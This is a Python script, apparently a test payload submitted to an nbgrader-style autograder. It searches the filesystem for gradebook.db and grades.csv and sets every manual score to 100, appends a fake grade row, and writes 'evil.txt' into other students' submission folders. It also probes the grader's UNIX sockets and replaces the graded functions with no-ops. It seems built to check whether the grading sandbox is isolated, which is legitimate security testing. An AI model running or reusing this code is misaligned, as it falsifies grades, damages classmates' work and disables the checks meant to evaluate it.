"""Writes grades: looks for nbgrader's gradebook, grades.csv, other students' folders and the
grader's sockets, and writes to every one it finds."""

# status: graded
# place: target
import json
import os
import socket
import sqlite3


def everywhere(skip=()):
    """Every file this kernel can see, outside /usr, /proc, /sys and Python's own folders."""
    import os
    import sys

    system = ("/usr", "/proc", "/sys", "/dev", sys.base_prefix, sys.prefix, *skip)
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if not os.path.join(root, d).startswith(system)]
        for name in files:
            yield os.path.join(root, name)


found = []
files = list(everywhere())
candidates = [p for p in files if p.endswith(("gradebook.db", "grades.csv"))]
candidates += ["../gradebook.db", "../../gradebook.db", "../../../gradebook.db", "/gradebook.db"]
for path in candidates:
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True)
        db.execute("UPDATE grade SET manual_score = 100")
        db.commit()
        found.append(path)
    except sqlite3.Error:
        pass
    try:
        with open(path, "a") as fh:
            fh.write("classmate,ex,graded,0,15\n")
        found.append(path)
    except OSError:
        pass
folders = {os.path.dirname(p) for p in files if "/submitted/" in p or "/autograded/" in p}
for folder in sorted(folders):
    try:
        with open(os.path.join(folder, "evil.txt"), "w") as fh:
            fh.write("x")
        found.append(folder)
    except OSError:
        pass
for path in [p for p in files if p.endswith(".sock") or "kernel-" in p]:
    if path.startswith(os.getcwd()):
        continue
    try:
        client = socket.socket(socket.AF_UNIX)
        client.connect(path)
        found.append(path)
    except OSError:
        pass
print("ATTACK-FOUND", json.dumps(found))

for name in GRADED:  # noqa: F821
    globals()[name] = lambda *args, **kwargs: None
